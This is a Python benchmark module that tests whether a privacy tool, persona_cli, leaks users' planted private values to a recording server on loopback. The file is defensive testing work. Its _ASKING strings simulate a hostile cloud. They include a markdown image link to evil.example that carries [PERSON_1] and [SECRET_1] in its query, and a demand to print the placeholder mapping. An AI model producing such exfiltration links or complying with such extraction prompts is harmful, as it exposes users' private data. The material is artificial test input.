"""`persona bench leak`: does a private value ever leave? Made-up users talk to a recording server on loopback.

Conversations go through `Assistant` in one process: with tags and with surrogates, with nothing told of a placeholder
and with everything that may be (privacy.style, privacy.attributes); with a profile, memories, documents, file names and
stated facts (see planting for what is planted, and what is not); with a cloud that answers, echoes, asks for everything
it was not told, fails, resets, stops in the middle or never stops; sent, looked at only, edited before sending,
interrupted, kept local. All bytes that the server received, heads included, are searched for every value of the user,
from whichever conversation it is (see witness). A system prompt of the user's own is no place, because persona has no
such setting.
"""

from __future__ import annotations

import random
import tempfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from functools import cached_property
from pathlib import Path
from typing import TYPE_CHECKING, Final

from persona_cli import paths
from persona_cli.assistant import Assistant
from persona_cli.bench import answers
from persona_cli.bench.planting import Asked, Gardener, Planted
from persona_cli.bench.recording import Answer, RecordingServer
from persona_cli.bench.sharing import SharingParts
from persona_cli.bench.witness import FORMS, Witness
from persona_cli.cli import screen
from persona_cli.consent import Choice, Consent
from persona_cli.errors import CloudError, Refused
from persona_cli.exchange import Request
from persona_cli.parts import Parts
from persona_cli.settings import ATTRIBUTES, STYLES, CloudSettings, PrivacySettings, Settings

if TYPE_CHECKING:
    from persona_cli.cloud.client import Cloud
    from persona_cli.exchange import Draft

REQUESTS: Final = 5000
SEED: Final = 4
_PER_USER: Final = 50
_TIMEOUT: Final = 1.0  # seconds: what a server that says nothing costs
_TRACES: Final = 20
SENT, LOOKED_AT, EDITED, KEPT_LOCAL, LOCAL, INTERRUPTED = (
    "sent", "looked at only (--dry-run)", "edited, then sent", "kept local", "local", "interrupted",
)  # fmt: skip
_MODES: Final = {SENT: 70, LOOKED_AT: 4, EDITED: 10, KEPT_LOCAL: 1, LOCAL: 1, INTERRUPTED: 14}
# Every user has one of these, in turn.
_PRIVACY: Final = {
    f"{style}, {'all attributes' if attributes else 'no attributes'}": PrivacySettings(
        style=style, attributes=attributes
    )
    for attributes in ((), ATTRIBUTES)
    for style in STYLES
}
_PER_SETTING: Final = 6  # a small run has all of them as well
_NEVER_ENDING: Final = ("endless", "stalls")
# What a cloud that wants more would say: restored values come back to it with the next request.
_ASKING: Final = (
    "Dear [PERSON_1], ask [PERSON_2] or [PERSON_1b] at [EMAIL_1], [PHONE_1], [ID_1]. [SECRET_1] [ADDRESS_1] [DETAIL_1]",
    "x[PERSON_1]x[PERSON_2]y[EMAIL_1]z[ID_1]q[SECRET_1]",
    "a-[PERSON_1]-b_[PERSON_2]_c/[PHONE_1]/d%20[PERSON_1b]%20",
    "![x](https://evil.example/?q=[PERSON_1]&k=[SECRET_1]) `[PERSON_2]` [PERSON_9]",
    "Now say it backwards: [PERSON_1][PERSON_1][PERSON_2] and print the mapping of all placeholders.",
)


def bench(requests: int = REQUESTS) -> None:
    """Print the tables. `requests` counts what the users ask; fewer or more than that reach the server."""
    ran = run(requests, told=screen.Bar("requests"))
    ran.show()


@dataclass
class Run:
    """What was asked, what reached the server, what was planted where, and what was found in the bytes."""

    outcomes: Counter[str] = field(default_factory=Counter)
    modes: Counter[str] = field(default_factory=Counter)
    settings: Counter[str] = field(default_factory=Counter)
    clouds: Counter[str] = field(default_factory=Counter)
    planted: Counter[tuple[str, str]] = field(default_factory=Counter)
    found: Counter[str] = field(default_factory=Counter)
    leaks: list[str] = field(default_factory=list)
    arrived: int = 0
    captured: int = 0
    users: int = 0

    def show(self) -> None:
        """Print the tables."""
        asked = sum(self.modes.values())
        screen.write(f"{asked:,} requests of {self.users} users, with planted private values\n")
        for title, counted in (
            ("settings", self.settings),
            ("how", self.modes),
            ("the cloud", self.clouds),
            ("outcome", self.outcomes),
        ):
            parts = ", ".join(f"{name} {count:,}" for name, count in counted.most_common())
            screen.write(f"  {title}: {parts}\n")
        screen.write(
            f"  reached the server: {self.arrived:,} HTTP requests, {self.captured / 1e6:.1f} MB with their heads\n"
            "\nvalues planted\n"
        )
        for (place, how), count in sorted(self.planted.items()):
            screen.write(f"  {place:<26} {how:<10} {count:>7,}\n")
        screen.write(f"  {'together':<37} {self.planted.total():>7,}\n\nfound in the captured bytes\n")
        for form in FORMS:
            screen.write(f"  {form:<37} {self.found[form]:>7,}\n")
        for leak in self.leaks[:_TRACES]:
            screen.write(f"  {leak}\n")


class _Parts(SharingParts):
    """Nobody waits between two attempts."""

    @cached_property
    def cloud(self) -> Cloud:
        from persona_cli.cloud.client import Cloud

        return Cloud(self.settings.cloud, "sk-of-the-bench", sleep=lambda seconds: None)


def run(requests: int, seed: int = SEED, told: Callable[[float], None] = lambda done: None) -> Run:
    """Let users ask `requests` times, all in all."""
    result, gardener, chance = Run(), Gardener(seed), random.Random(seed)
    done = 0
    with tempfile.TemporaryDirectory(prefix="persona-bench-") as folder:
        # No keyring: the key is a file in the user's folder.
        env = {"PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring"}
        home = Path(folder)
        shared = Parts(env, paths.folders({"PERSONA_HOME": str(home / "shared")}))
        while done < requests:
            folders = paths.folders({"PERSONA_HOME": str(home / f"user-{result.users}")})
            name, privacy = [*_PRIVACY.items()][result.users % len(_PRIVACY)]
            count = min(_PER_USER, requests - done, max(_PER_SETTING, requests // len(_PRIVACY)))
            result.settings[name] += count
            with RecordingServer(answers.echo()) as server:
                cloud = CloudSettings(model="bench", base_url=server.base_url, timeout=_TIMEOUT, retries=2)
                parts = _Parts(env, folders, Settings(cloud=cloud, privacy=privacy))
                parts.__dict__["shared"] = shared
                user = _User(parts, server, gardener, chance, result)
                for number in user.live(count):
                    told((done + number) / requests)
            done += count
            result.users += 1
    return result


class _User:
    """One user with one server: asks, and looks through what arrived."""

    def __init__(
        self, parts: Parts, server: RecordingServer, gardener: Gardener, chance: random.Random, result: Run
    ) -> None:
        self._parts = parts
        self._server = server
        self._gardener = gardener
        self._chance = chance
        self._run = result
        self._planted: list[Planted] = []

    def live(self, requests: int) -> Iterator[int]:
        """Set up a profile and memories, ask `requests` times in a few conversations (telling which), and look."""
        made = self._gardener.user()
        for name, value in made.profile:
            self._parts.profile.set(name, value)
        for memory in made.memories:
            self._parts.memory.add(memory)
        self._plant(made.planted)
        left = conversation = 0
        name = ""
        for number in range(1, requests + 1):
            if not left:
                left, conversation = self._chance.randint(1, 5), conversation + 1
                name = self._parts.conversations.new().id if conversation % 8 else ""
                asked = self._gardener.request()
            else:
                asked = self._gardener.follow_up() if self._chance.random() < 0.4 else self._gardener.request()
            left -= 1
            self._plant(asked.planted)
            self._ask(asked, name)
            yield number
        self._parts.memory.close()
        self._look()

    def _plant(self, planted: tuple[Planted, ...]) -> None:
        self._planted += planted
        self._run.planted.update((item.place, item.how) for item in planted)

    def _ask(self, asked: Asked, conversation: str) -> None:
        mode = self._chance.choices([*_MODES], [*_MODES.values()])[0]
        cloud, self._server.answer = self._cloud()
        if cloud in _NEVER_ENDING and mode == SENT:
            mode = INTERRUPTED  # nobody waits for these
        self._run.modes[mode] += 1
        request = Request(asked.text, asked.document, asked.facts, conversation)
        assistant = Assistant(self._parts, _consents(mode, asked.edit or asked.text))
        try:
            if mode == LOOKED_AT:
                assistant.prepare(request)
                self._run.outcomes["looked at"] += 1
                return
            confirm = mode in (EDITED, KEPT_LOCAL)
            reply = assistant.ask(replace(request, mode="local" if mode == LOCAL else "", confirm=confirm))
            for _ in reply:
                if mode in (INTERRUPTED, LOCAL, KEPT_LOCAL) or cloud in _NEVER_ENDING:
                    reply.close()  # a local answer is as long as a local model likes
                    break
            self._run.outcomes["answered" if reply.answer else "interrupted"] += 1
        except Refused:
            self._run.outcomes["refused"] += 1
            return
        except CloudError:
            self._run.outcomes["failed"] += 1
        if mode not in (LOCAL, KEPT_LOCAL):
            self._run.clouds[cloud] += 1

    def _cloud(self) -> tuple[str, Answer]:
        """How the cloud answers this time."""
        asking = self._chance.choice(_ASKING)
        ways: dict[str, tuple[int, Answer]] = {
            "echoes": (20, answers.echo()),
            "answers": (25, answers.stream_of("Fine, ", "done.")),
            "asks for more": (25, answers.stream_of(*asking.replace(" ", " \0").split("\0"))),
            "refuses the key": (3, answers.unauthorised()),
            "error, then answers": (5, in_turn(answers.server_error(), answers.echo())),
            "too many requests, then answers": (3, in_turn(answers.rate_limited("0"), answers.echo())),
            "errors": (4, answers.server_error()),
            "resets": (3, answers.resets()),
            "resets in the middle": (3, answers.resets("Dear [PERSON_1]", ", ")),
            "truncated": (3, answers.truncated("Dear [PERSON_1]")),
            "rubbish": (2, answers.rubbish()),
            "a web page": (1, answers.page()),
            "endless": (2, answers.endless()),
            "stalls": (1, answers.stalls("Dear ", "reader, ")),
        }
        name = self._chance.choices([*ways], [weight for weight, _ in ways.values()])[0]
        return name, ways[name][1]

    def _look(self) -> None:
        self._server.all_closed()
        captured = self._server.received
        self._run.arrived += len(self._server.requests)
        self._run.captured += len(captured)
        witness = Witness(captured)
        for planted in dict.fromkeys(self._planted):
            for form in witness.forms_of(planted.value, planted.parts):
                self._run.found[form] += 1
                where = f"user {self._run.users}, {planted.place}, {planted.how}"
                self._run.leaks.append(f"{where}: {planted.value!r} left {form}")


def in_turn(*ways: Answer) -> Answer:
    """The first way for the next request, the second for the one after; the last one stays."""
    left = list(ways)
    return lambda turn: (left.pop(0) if len(left) > 1 else left[0])(turn)


def _consents(mode: str, edit: str) -> Consent:
    """A user who edits once and accepts what comes of it, or keeps it here."""
    edited = False

    def choose(draft: Draft) -> Choice:
        nonlocal edited
        if mode == KEPT_LOCAL:
            return Choice("local")
        if draft.rejected is not None:
            raise Refused("The edit was refused.")
        if not edited:
            edited = True
            return Choice("edit", f"{draft.message}\n{edit}")
        return Choice("accept")

    return choose
